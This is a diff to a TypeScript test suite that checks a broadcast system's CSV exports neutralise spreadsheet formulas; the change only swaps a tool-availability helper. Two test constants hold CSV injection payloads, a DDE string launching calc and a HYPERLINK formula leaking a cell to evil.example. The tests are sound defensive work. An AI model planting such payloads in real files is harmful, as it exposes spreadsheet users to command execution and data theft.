@@ -13,9 +13,10 @@ import { siteTopic, type AlertStatusEvent, type AsRunEvent, type PlaylistMessage
 import { parseCsvRecords } from '../../server/registry/csv.ts';
 import { startsWithFormulaTrigger } from '../../server/csv.ts';
 import { importLaoCai2025, startTestServer, tempDir, waitFor, type TestServer } from '../helpers/server.ts';
-import { ffmpeg, missingTools, uploadFile } from '../helpers/media.ts';
+import { ffmpeg, uploadFile } from '../helpers/media.ts';
+import { haveTools } from '../helpers/require-tool.ts';
 
-const missing = missingTools(false);
+const canRun = haveTools('ffmpeg');
 const H = 3_600_000;
 const DETAIL = "-2+3+cmd|' /C calc'!A0";
 const TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")';
@@ -27,7 +28,7 @@ let site: { siteId: string; secret: string };
 let mediaId: string;
 
 beforeAll(async () => {
-  if (missing.length) return;
+  if (!canRun) return;
   t = await startTestServer();
   await importLaoCai2025(t);
   const wav = path.join(tempDir('loanet-csv-'), 'tone.wav');
@@ -58,7 +59,7 @@ function noCellIsAFormula(records: string[][]): void {
   for (const r of records) for (const c of r) expect(startsWithFormulaTrigger(c), JSON.stringify(c)).toBe(false);
 }
 
-describe.skipIf(missing.length > 0)('CSV exports neutralise what users and sites wrote', () => {
+describe.skipIf(!canRun)('CSV exports neutralise what users and sites wrote', () => {
   it('the as-run log: a formula in a title, a tab before a site name and a formula a site published as its detail are text', async () => {
     const at = Date.now() + H;
     const item = await t.api('POST', '/api/schedule/items', { title: TITLE, mediaId, targets: { sites: [site.siteId] }, start: { at } });
